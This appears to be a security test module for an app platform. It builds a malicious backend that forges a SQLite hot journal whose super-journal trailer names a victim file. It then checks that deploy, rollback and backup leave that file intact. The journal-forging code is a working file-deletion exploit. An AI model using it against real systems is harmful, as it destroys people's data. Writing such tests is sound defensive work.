import assert from "node:assert/strict";
import { visit } from "../../ask.ts";
import { backend } from "../../small_app.ts";
import type { BackendAttack } from "../attack.ts";

export const attack: BackendAttack = {
  from: "backend",
  what: "a journal that has SQLite delete a file of the person's",
  server: backend(`
  // a hot journal may name a "super-journal": who plays it back deletes that file
  const victim = new TextEncoder().encode(new URL(request.url).searchParams.get("victim"));
  const folder = Deno.env.get("HANDLER_APP_DATA");
  const { DatabaseSync } = await import("node:sqlite");
  const db = new DatabaseSync(folder + "/a.db");
  db.exec("CREATE TABLE t (x); INSERT INTO t VALUES (1)");
  db.close();
  const { size } = Deno.statSync(folder + "/a.db"), page = 4096, magic = [0xd9, 0xd5, 5, 0xf9, 0x20, 0xa1, 0x63, 0xd7];
  const number = (value) => [value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
  const head = [...magic, ...number(0), ...number(0), ...number(size / page), ...number(512), ...number(page)];
  const sum = victim.reduce((total, byte) => total + byte, 0);
  const tail = [...number(0x40000000 / page + 1), ...victim, ...number(victim.length), ...number(sum), ...magic];
  Deno.writeFileSync(folder + "/a.db-journal", new Uint8Array([...head, ...new Array(512 - head.length).fill(0), ...tail]));
  return new Response("planted");
`),
  async attempt(desk) {
    const victim = `${desk.root}/victim`;
    await Deno.writeTextFile(victim, "precious");
    const page = await visit(desk, "evil");
    await page.ask({ path: `/api/x?victim=${victim}` });
    await desk.deploy("evil").catch(() => {});
    await desk.apps.planRollback("evil").catch(() => {});
    await desk.apps.backup("evil", `${desk.root}/copy`).catch(() => {});
    assert.equal(await Deno.readTextFile(victim), "precious");
  },
};
